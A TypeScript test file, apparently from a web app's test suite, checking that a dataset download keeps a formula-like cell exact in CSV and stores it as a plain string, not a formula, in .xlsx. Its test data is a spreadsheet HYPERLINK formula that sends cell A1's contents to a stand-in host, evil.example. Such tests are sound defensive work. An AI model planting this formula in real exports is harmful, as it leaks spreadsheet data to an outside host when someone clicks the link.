import { Workbook } from 'exceljs';
import { uploadDataset } from '../factories/asset.factory';
import { createLoggedInUser } from '../factories/user.factory';
import { createTestApp, TestApp } from '../support/test-app';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/**
 * CSV gives back every cell exactly as written, formula-like ones included; the .xlsx download is
 * the one for spreadsheets, and there such a cell is plain text, never a formula.
 */
describe('formula-like cells in downloads', () => {
  let testApp: TestApp;

  beforeAll(async () => {
    testApp = await createTestApp();
  });
  afterAll(() => testApp.close());

  it('keeps the cell exact in CSV and inert (a string cell) in .xlsx', async () => {
    const owner = await createLoggedInUser(testApp);
    const csvIn = `name,link\nalpha,"${FORMULA.replaceAll('"', '""')}"\n`;
    const id = await uploadDataset(owner.agent, {}, csvIn);

    const csv = await owner.agent.get(`/api/downloads/${id}`).expect(200);
    expect(csv.text).toContain(`"${FORMULA.replaceAll('"', '""')}"`);

    const xlsx = await owner.agent
      .get(`/api/downloads/${id}`)
      .query({ format: 'xlsx' })
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const workbook = new Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    const cells = workbook.worksheets[0]
      .getSheetValues()
      .flat()
      .filter((value) => value !== undefined && value !== null);
    expect(cells).toContain(FORMULA);
    workbook.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        expect(typeof cell.value).toBe('string');
      }),
    );
  });
});
